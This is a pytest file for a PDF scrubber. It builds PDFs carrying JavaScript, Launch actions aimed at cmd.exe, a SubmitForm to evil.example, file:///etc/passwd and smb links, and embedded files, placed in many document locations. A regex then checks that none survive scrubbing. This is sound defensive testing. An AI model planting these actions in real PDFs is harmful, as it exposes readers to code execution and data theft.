"""Every way to make a PDF act, put in every place that can hold it: nothing of it may be left in the saved file."""

import io
import re
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from meetings.documents.scrub import scrub

Put = Callable[[Pdf, Object], None]

ACTIVE = re.compile(
    rb"/(JavaScript|JS|Launch|OpenAction|AA|EmbeddedFiles?|EF|SubmitForm|ImportData|ResetForm|GoToR|GoToE|RichMedia\w*"
    rb"|Movie|Sound|3D\w*|GoTo3DView|XFA|Rendition|AF|Hide|FileAttachment|Screen|OnInstantiate|Collection)(?![A-Za-z])"
    rb"|javascript:|file:|smb:|cmd\.exe|app\.alert|/Print(?![A-Za-z])"
)


def actions(pdf: Pdf) -> dict[str, Object]:
    away = Dictionary(Type=Name.Filespec, F=String("cmd.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ app.alert")))
    return {
        "javascript": Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
        "javascript in a stream": Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")),
        "typed javascript": Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)"), P=Dictionary()),
        "launch": Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
        "submit": Dictionary(S=Name.SubmitForm, F=String("http://evil.example/app.alert")),
        "import": Dictionary(S=Name.ImportData, F=String("cmd.exe")),
        "reset": Dictionary(S=Name.ResetForm),
        "other document": Dictionary(S=Name.GoToR, F=away, D=Array([0, Name.Fit])),
        "embedded document": Dictionary(S=Name.GoToE, F=away),
        "rich media": Dictionary(S=Name.RichMediaExecute, CMD=Dictionary(C=String("app.alert"))),
        "film": Dictionary(S=Name.Movie, T=String("app.alert")),
        "sound": Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"app.alert")),
        "rendition": Dictionary(S=Name.Rendition, JS=String("app.alert(1)")),
        "view of a solid": Dictionary(S=Name.GoTo3DView, V=0),
        "hide": Dictionary(S=Name.Hide, T=String("app.alert")),
        "script link": Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")),
        "file link": Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        "share link": Dictionary(S=Name.URI, URI=String(" smb://evil/app.alert")),
        "link that is no text": Dictionary(S=Name.URI, URI=Name("/javascript:")),
        "print": Dictionary(S=Name.Named, N=Name.Print),
        "behind a harmless one": Dictionary(
            S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        ),
        "in a list behind a harmless one": Dictionary(
            S=Name.URI,
            URI=String("https://hagiang.gov.vn"),
            Next=Array([Dictionary(S=Name.Launch, F=String("cmd.exe")), Dictionary(S=Name.JavaScript, JS=String("x"))]),
        ),
    }


def annotate(pdf: Pdf, annotation: Object) -> None:
    annotation["/Rect"] = Array([0, 0, 10, 10])
    placed = pdf.make_indirect(annotation)
    pdf.pages[0].obj["/Annots"] = Array([placed])
    if annotation["/Subtype"] == Name.Widget:
        pdf.Root["/AcroForm"] = Dictionary(Fields=Array([placed]), SigFlags=3)


def put_in_field(pdf: Pdf, action: Object) -> None:
    child = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("b"), AA=Dictionary(K=action)))
    field = pdf.make_indirect(Dictionary(T=String("a"), Kids=Array([child]), AA=Dictionary(V=action)))
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([field]))


def put_in_outline(pdf: Pdf, action: Object) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("1"), A=action))
    pdf.Root["/Outlines"] = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))


PLACES: dict[str, Put] = {
    "on opening": lambda pdf, action: pdf.Root.__setitem__("/OpenAction", action),
    "on opening, apart": lambda pdf, action: pdf.Root.__setitem__("/OpenAction", pdf.make_indirect(action)),
    "on printing": lambda pdf, action: pdf.Root.__setitem__("/AA", Dictionary(WP=action)),
    "on a page": lambda pdf, action: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=action)),
    "on all pages": lambda pdf, action: pdf.Root["/Pages"].__setitem__("/AA", Dictionary(O=action)),
    "in a link": lambda pdf, action: annotate(pdf, Dictionary(Subtype=Name.Link, A=action, PA=action)),
    "under the pointer": lambda pdf, action: annotate(pdf, Dictionary(Subtype=Name.Widget, AA=Dictionary(E=action))),
    "in a field": put_in_field,
    "in the outline": put_in_outline,
    "by name": lambda pdf, action: pdf.Root.__setitem__(
        "/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("0"), action])))
    ),
    "in a presentation": lambda pdf, action: pdf.pages[0].obj.__setitem__("/PresSteps", Dictionary(NA=action)),
    "somewhere else": lambda pdf, action: pdf.Root.__setitem__(
        "/Odd", Array([Array([Dictionary(X=Dictionary(A=action))])])
    ),
}


def saved(pdf: Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(
        out,
        qdf=True,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    return out.getvalue()


def scrubbed(pdf: Pdf) -> bytes:
    packed = io.BytesIO()
    pdf.save(packed)
    with pikepdf.open(packed) as read:
        scrub(read)
        return saved(read)


def blank() -> Pdf:
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", actions(Pdf.new()))
def test_no_action_survives_anywhere(kind: str, place: str) -> None:
    pdf = blank()
    PLACES[place](pdf, actions(pdf)[kind])
    assert ACTIVE.search(saved(pdf)) is not None
    assert ACTIVE.findall(scrubbed(pdf)) == []


@pytest.mark.parametrize(
    "annotation",
    [
        Dictionary(Subtype=Name.FileAttachment, FS=Dictionary(F=String("cmd.exe"))),
        Dictionary(Subtype=Name.Sound, Sound=Dictionary()),
        Dictionary(Subtype=Name.Movie, Movie=Dictionary(F=String("cmd.exe"))),
        Dictionary(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition)),
        Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
        Dictionary({"/Subtype": Name("/3D"), "/3DD": Dictionary(OnInstantiate=String("app.alert"))}),
        Dictionary(Subtype=Name.Link, Movie=Dictionary(F=String("cmd.exe")), AF=Array([])),
    ],
)
def test_no_sound_film_solid_or_file_survives_on_a_page(annotation: Object) -> None:
    pdf = blank()
    annotate(pdf, annotation)
    assert ACTIVE.findall(scrubbed(pdf)) == []


def test_files_inside_and_beside_are_taken_out() -> None:
    pdf = blank()
    pdf.attachments["cmd.exe"] = b"MZ app.alert"
    inside = pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec, F=String("x"), EF=Dictionary(F=pdf.make_stream(b"app.alert", Type=Name.EmbeddedFile))
        )
    )
    pdf.Root["/AF"] = Array([inside])
    pdf.Root["/Collection"] = Dictionary(View=Name.T)
    pdf.pages[0].obj["/AF"] = inside
    pdf.Root["/Odd"] = inside
    pdf.pages[0].obj["/Contents"] = pdf.make_stream(b"", F=String("file:///etc/passwd"))
    assert ACTIVE.findall(scrubbed(pdf)) == []


def test_forms_of_the_other_kind_are_taken_out() -> None:
    pdf = blank()
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp>app.alert</xdp>"))
    pdf.Root["/NeedsRendering"] = True
    assert ACTIVE.findall(scrubbed(pdf)) == []


def test_a_signature_leaves_its_picture_only() -> None:
    pdf = blank()
    seal = Dictionary(Type=Name.Sig, Contents=String("0"), ByteRange=Array([0, 1, 2, 3]))
    annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Sig, V=seal, AP=Dictionary(N=pdf.make_stream(b"q Q % seal"))))
    pdf.Root["/Perms"] = Dictionary(DocMDP=seal)
    left = scrubbed(pdf)
    assert re.findall(rb"/(ByteRange|SigFlags|Perms|V) ", left) == []
    assert b"q Q % seal" in left


def test_what_one_reads_and_follows_stays() -> None:
    pdf = blank()
    page = pdf.pages[0].obj
    jump = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
    annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("HTTPS://hagiang.gov.vn/a"))))
    put_in_outline(pdf, jump)
    page["/Contents"] = pdf.make_stream(b"BT (Xin chao) Tj ET")
    page["/Resources"] = Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font, BaseFont=Name.Tinos)))
    pdf.Root["/StructTreeRoot"] = Dictionary(
        K=Dictionary(S=Name.Sound, P=Dictionary(), A=Dictionary(O=Name.Layout, Placement=Name.Block))
    )
    pdf.Root["/Dests"] = Dictionary(A=Array([page, Name.Fit]))
    left = scrubbed(pdf)
    kept = rb"HTTPS://hagiang.gov.vn/a|/S /GoTo|\(Xin chao\) Tj|/BaseFont /Tinos|/S /Sound|/Placement /Block|/Dests"
    assert len(set(re.findall(kept, left))) == 7


def test_numbers_where_dictionaries_belong_do_no_harm() -> None:
    pdf = blank()
    page = pdf.pages[0].obj
    for key in ("/AA", "/Annots", "/AF", "/PieceInfo"):
        page[key] = 7
    for key in ("/Names", "/AcroForm", "/OpenAction", "/AA", "/Outlines"):
        pdf.Root[key] = True
    pdf.Root["/Odd"] = Array([Dictionary(S=5, A=6, Next=7, AA=Array([8]), FT=2), None, Array([Dictionary(S=Name.URI)])])
    assert ACTIVE.findall(scrubbed(pdf)) == []
